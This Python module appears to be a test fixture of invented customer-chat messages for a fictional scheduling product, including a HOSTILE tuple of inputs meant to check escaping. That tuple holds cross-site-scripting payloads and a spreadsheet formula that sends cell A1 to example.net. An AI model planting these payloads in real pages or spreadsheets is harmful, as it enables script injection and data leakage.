"""What is said: invented sentences by topic, some of them hostile or far from plain ASCII."""

from __future__ import annotations

__all__ = [
    "AGENT_REPLIES",
    "ANSWERS",
    "AWAY",
    "BOT_QUESTIONS",
    "FAREWELLS",
    "FOLLOW_UPS",
    "GREETINGS",
    "HOSTILE",
    "NOTES",
    "OPENERS",
    "OUTREACH",
    "RETURNS",
    "THANKS",
    "WORLD",
]

OPENERS = {
    "pricing": (
        "How much is it for a team of 12?",
        "Hi! Is there a yearly discount?",
        "What is the difference between Team and Business?",
        "do you charge per seat or per location",
    ),
    "product": (
        "Can I see it before I sign up?",
        "We plan shifts in spreadsheets today, would love a demo.",
        "Does Larkfield work for workshops with several sites?",
        "Looking for scheduling software, who can walk me through it?",
    ),
    "integration": (
        "Does this connect to our payroll?",
        "Is there an API for the calendar?",
        "Trying to import last year's rota from CSV, it stops at row 500.",
        "Can we use single sign-on?",
    ),
    "careers": (
        "Are you hiring engineers?",
        "Who do I write to about an internship?",
    ),
    "login": (
        "I can't log in since this morning.",
        "The reset link has expired, can you send another one?",
        "It says my account is locked",
    ),
    "billing": (
        "We were charged twice in March.",
        "How do I change the card on file?",
        "I need an invoice with our VAT number please.",
    ),
    "bug": (
        "The week view is empty on my phone.",
        "Export to PDF has been spinning for ten minutes.",
        "Shifts after midnight show up on the wrong day.",
    ),
    "spam": (
        "We can put your site on page 1 within a week!!!",
        "Dear sir, business proposal, kindly reply",
    ),
}
"""How a contact begins."""

FOLLOW_UPS = {
    "pricing": ("Is onboarding included?", "And for 30 people?", "Can we pay by invoice?"),
    "product": (
        "Does it do recurring shifts?",
        "How long is set-up?",
        "Our team is in two cities.",
    ),
    "integration": ("We are on the Business plan.", "Is there a sandbox?", "It is a nightly job."),
    "careers": ("Is remote possible?", "Should I send my CV here?"),
    "login": ("Still the same here.", "Yes, I tried another browser.", "That did it!"),
    "billing": ("It ends in 42.", "The amount is $180.", "When will the refund arrive?"),
    "bug": (
        "It is version 4.2.",
        "I can send a screenshot.",
        "It happens every time.",
        "No change.",
        "Done.",
    ),
    "spam": ("Very good price for you", "Are you the owner?"),
}
"""How a contact goes on."""

AGENT_REPLIES = {
    "pricing": (
        "<p>For a team of that size it is <b>$9 a seat</b> &amp; month, billed yearly.</p>",
        "<p>Happy to help! How many people would plan, and how many only look?</p>",
        '<p>All plans are compared <a href="https://larkfield.example.com/pricing">here</a>.</p>',
    ),
    "product": (
        "<p>Glad you&#39;re looking at Larkfield! What do you plan with today?</p>",
        "<p>Recurring shifts are built in. I can show you in 20&nbsp;minutes.</p>",
        "<p>Set-up usually takes an afternoon &mdash; we import your rota for you.</p>",
    ),
    "integration": (
        "<p>Yes, there is a connector. Which payroll system is it?</p>",
        "<p>The limit is 500 rows per file; split it and it will go through.</p>",
        '<p>The API is described <a href="https://larkfield.example.org/api">in the docs</a>.</p>',
    ),
    "careers": (
        "<p>We are! Have a look at our careers page, new roles go up on Mondays.</p>",
        "<p>Please send it to jobs@example.com &amp; mention this chat.</p>",
    ),
    "login": (
        "<p>Sorry about that. I have just sent you a fresh link.</p>",
        "<p>Could you try a private window &amp; tell me what you see?</p>",
        "<p>Your account is unlocked again.</p>",
    ),
    "billing": (
        "<p>I can see both charges. The second one is on its way back to you.</p>",
        "<p>You can change it under <b>Settings &gt; Billing</b>.</p>",
        "<p>The invoice is attached.</p>",
    ),
    "bug": (
        "<p>Thanks for reporting! Which browser is it?</p>",
        "<p>I can reproduce it here &amp; have told our engineers.</p>",
        "<p>A fix goes out tonight. I&#39;ll let you know.</p>",
        "<p>Could you clear the cache &amp; try once more?</p>",
        "<p>What does the line at the bottom of the page say?</p>",
        "<p>Please open <b>Help &gt; Diagnostics</b> and read me the code.</p>",
        "<p>I&#39;m looking at your log now, one moment.</p>",
        "<p>That narrows it down. Does it happen with one shift only?</p>",
    ),
    "spam": ("<p>No, thank you.</p>",),
}
"""What people of the organisation answer."""

GREETINGS = (
    '<p>Hi <span class="driftiwyg-tag-property">{first}</span> 👋 What brings you here today?</p>',
    "<p>Welcome to Larkfield! Can I answer a question?</p>",
    "<p>Hello! I&#39;m a bot, and quick. How can I help?</p>",
)
"""How the bot begins; `{first}` is a name."""

ANSWERS = ("Talk to sales", "I have a question", "See pricing", "Get support")
"""Buttons under a greeting; pressing one posts it as it stands."""

BOT_QUESTIONS = (
    (
        "<p>Got it! How large is your team?</p>",
        ("1-10", "11-50", "around 200 people", "We are 14 planners"),
    ),
    (
        "<p>Thanks! Is it for one site or for several?</p>",
        ("just one", "several", "3 for now, maybe 5 next year"),
    ),
    (
        "<p>And which of our plans are you on, or looking at?</p>",
        ("Team", "Business", "not sure yet", "the free trial"),
    ),
    (
        "<p>Good to know &mdash; when would you like to start?</p>",
        ("as soon as possible", "this quarter", "just looking around"),
    ),
)
"""How the bot goes on, and what contacts answer."""

WORLD = (
    "料金プランについて教えてください 🙏",
    "Das wären drei Standorte — zwei in Köln, einer in Zürich.",
    "¿Hablan español? 😊",
    "👍🏽",
    "not sure yet 🤷‍♀️",
)
"""Answers that are far from plain ASCII."""

HOSTILE = (
    "<script>alert('hello')</script>",
    "</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("https://example.net/?q="&A1,"invoice")',
    "+1 and -2 @SUM(A1:A9)",
    "<b>unclosed & <i>crossed</b></i> &lt;script&gt; \u2028 end",
    "مرحبا، هل لديكم خطة للمدارس؟",
)
"""Bodies that must never become markup, script or a formula."""

AWAY = "<p>Our team is away right now. Leave a message, we&#39;ll answer in the morning.</p>"
"""What the bot says when the office is closed."""

OUTREACH = "<p>Hi {first}, you asked for our price list by phone. Shall I send it here?</p>"
"""How a person begins a conversation."""

FAREWELLS = (
    "<p>Is there anything else I can do for you?</p>",
    "<p>Great &mdash; have a good day!</p>",
    "<p>You&#39;re welcome 🙂</p>",
)
"""How a person ends a conversation."""

THANKS = ("Thanks!", "Perfect, thank you 🙏", "ok, thx", "That helps a lot.", "merci !")
"""How a contact ends a conversation."""

RETURNS = (
    "One more thing...",
    "Hi again, it is back unfortunately.",
    "Sorry, I forgot to ask: is there a mobile app?",
    "Any news?",
    "thanks!!",
)
"""How a contact writes into a closed conversation."""

NOTES = (
    "Called them on Tuesday, wants an offer for 3 sites.",
    "Same company as the chat last week, see CRM.",
    "@Maya can you take this one?",
    "Budget is approved for Q3.",
)
"""What people note for each other."""
